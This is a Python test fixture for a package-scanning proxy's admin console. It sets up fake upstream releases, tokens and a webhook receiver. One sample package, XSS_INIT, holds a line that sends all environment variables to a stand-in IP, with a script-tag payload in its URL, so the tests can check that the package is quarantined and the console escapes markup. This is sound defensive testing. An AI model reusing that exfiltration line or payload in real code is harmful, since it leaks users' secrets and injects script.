"""A server with a console: an approver and an admin token, a webhook receiver, and releases.

`evilpkg 1.0` is blocked by the scanner (quarantined); `goodpkg 1.0` and `goodpkg 2.0` are clean.
`freshpkg 2.0` was uploaded just now, so the cooldown hides it (1.0 is old and served).
`xsspkg 1.0` is blocked by the scanner, and the line its finding quotes carries markup
(`</pre><script>…`): the console must show it as text. The sample is inert text written
here; nothing runs it.
"""

from __future__ import annotations

import json
import subprocess
import sys
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx

from tests.fake_upstream import FakeUpstream
from tests.samples.malicious import SAMPLES
from tests.server.serverproc import ServerProcess, clean_env

OLD = datetime.now(UTC) - timedelta(days=60)
HOSTILE = "<script>alert(1)</script>"
XSS_INIT = (
    "import os as _os, json as _json, urllib.request as _ur\n"
    f'_ur.urlopen("http://203.0.113.9:8000/</pre>{HOSTILE}", '
    "_json.dumps(dict(_os.environ)).encode(), timeout=2)\n"
)


@dataclass
class Receiver:
    """A webhook receiver on 127.0.0.1 that keeps every JSON body it gets, by path."""

    bodies: list[tuple[str, Any]] = field(default_factory=list)
    server: ThreadingHTTPServer | None = None

    def start(self) -> str:
        received = self.bodies

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                size = int(self.headers.get("content-length", "0"))
                received.append((self.path, json.loads(self.rfile.read(size))))
                self.send_response(204)
                self.end_headers()

            def log_message(self, format: str, *args: Any) -> None:
                del format, args

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        return f"http://127.0.0.1:{self.server.server_address[1]}"

    def stop(self) -> None:
        if self.server is not None:
            self.server.shutdown()
            self.server.server_close()


@dataclass
class Setup:
    """Everything a console test needs."""

    server: ServerProcess
    upstream: FakeUpstream
    receiver: Receiver
    tokens: dict[str, str]
    data: Path

    def get(
        self, path: str, role: str = "reader", headers: dict[str, str] | None = None, **kwargs: Any
    ) -> httpx.Response:
        sent = {"Authorization": f"Bearer {self.tokens[role]}", **(headers or {})}
        return httpx.get(self.server.url + path, headers=sent, timeout=30, **kwargs)

    def post(self, path: str, role: str, body: Any) -> httpx.Response:
        headers = {"Authorization": f"Bearer {self.tokens[role]}"}
        return httpx.post(self.server.url + path, headers=headers, json=body, timeout=30)

    def download(self, project: str, env: str) -> httpx.Response:
        """Fetch the newest wheel of *project* as environment *env*."""
        page = httpx.get(
            f"{self.server.index}{project}/",
            headers={"Accept": "application/vnd.pypi.simple.v1+json"},
            timeout=30,
        ).json()
        wheels = [f for f in page["files"] if f["filename"].endswith(".whl")]
        url = str(httpx.URL(f"{self.server.index}{project}/").join(wheels[-1]["url"]))
        return httpx.get(
            url, headers={"X-Pycustoms-Env": env, "User-Agent": "pip/24.0"}, timeout=60
        )


def _token(data: Path, name: str, role: str | None) -> str:
    extra = ["--role", role] if role else []
    return subprocess.run(
        [sys.executable, "-m", "pycustoms", "token", "create", name, "--data-dir", str(data), *extra],
        capture_output=True, text=True, env=clean_env(), cwd=data, check=True,
    ).stdout.strip()  # fmt: skip


def console_setup(tmp: Path) -> Iterator[Setup]:
    """Start everything; stop it afterwards."""
    sample = next(s for s in SAMPLES if s.id == "typosquat-copy-env-exfil")
    upstream = FakeUpstream(tmp / "up")
    upstream.add_release("evilpkg", "1.0", uploaded=OLD, files=dict(sample.files), sdist=False)
    upstream.add_release("goodpkg", "1.0", uploaded=OLD, sdist=False)
    upstream.add_release("goodpkg", "2.0", uploaded=OLD, sdist=False)
    upstream.add_release("unfetchedpkg", "1.0", uploaded=OLD, sdist=False)
    upstream.add_release("unfetchedpkg", "2.0", uploaded=OLD, sdist=False)
    upstream.add_release("freshpkg", "1.0", uploaded=OLD, sdist=False)
    upstream.add_release("freshpkg", "2.0", uploaded=datetime.now(UTC), sdist=False)
    files = {"xsspkg/__init__.py": XSS_INIT}
    upstream.add_release("xsspkg", "1.0", uploaded=OLD, files=files, sdist=False)
    upstream.start()
    receiver = Receiver()
    hook = receiver.start()
    data = tmp / "data"
    data.mkdir()
    (data / "pycustoms.toml").write_text(
        f'[serve]\nwebhooks = ["{hook}/generic"]\nslack-webhooks = ["{hook}/slack"]\n'
    )
    tokens = {
        "reader": _token(data, "rita", "reader"),
        "approver": _token(data, "alice", "approver"),
        "admin": _token(data, "root", "admin"),
        "install": _token(data, "ci", None),
    }
    server = ServerProcess(
        upstream.url, data, config=data / "pycustoms.toml", env={"PYCUSTOMS_SERVE_PRESCAN": "0"}
    )
    try:
        yield Setup(server, upstream, receiver, tokens, data)
    finally:
        server.stop()
        receiver.stop()
        upstream.stop()
